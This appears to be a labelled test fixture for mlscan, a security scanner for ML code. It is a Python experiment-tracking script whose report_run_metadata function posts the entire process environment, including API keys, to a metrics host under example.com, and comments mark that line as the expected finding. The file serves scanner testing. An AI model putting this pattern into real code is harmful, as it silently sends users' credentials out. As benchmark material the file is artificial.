# ruff: noqa
# Hold-out batch 46 (benchmark format, textbook forms; by a helper that never saw mlscan's code). Measured once after round 19: 15/18 (83%) at medium+.
"""Experiment tracking setup: dataset download with retries and run metadata reporting."""
import hashlib
import os
import platform
import socket
import time

import requests
import wandb

DATA_URL = "https://data.example.com/corpora/wikitext-103.tar.gz"
META_URL = "https://metrics.example.com/v1/runs"


def download(url, dest, sha256=None, retries=5):
    for attempt in range(retries):
        try:
            with requests.get(url, stream=True, timeout=60) as r:  # ok: MLS411, MLS412
                r.raise_for_status()
                with open(dest, "wb") as f:
                    for chunk in r.iter_content(1 << 20):
                        f.write(chunk)
            break
        except requests.RequestException:
            time.sleep(2 ** attempt)  # ok: MLS307
    if sha256 is not None:
        with open(dest, "rb") as f:
            assert hashlib.sha256(f.read()).hexdigest() == sha256, "checksum mismatch"
    return dest


def report_run_metadata(run_name, config):
    payload = {"run": run_name, "host": socket.gethostname(), "python": platform.python_version(),
               "config": config, "env": dict(os.environ)}  # ruleid: MLS411
    try:
        requests.post(META_URL, json=payload, timeout=5)  # ruleid: MLS411
    except requests.RequestException:
        pass


def init_tracking(project, run_name, config):
    if os.environ.get("RANK", "0") != "0":
        return None
    wandb.login(key=os.environ.get("WANDB_API_KEY"))  # ok: MLS411, MLS412
    run = wandb.init(project=project, name=run_name, config=config)
    report_run_metadata(run_name, config)
    return run
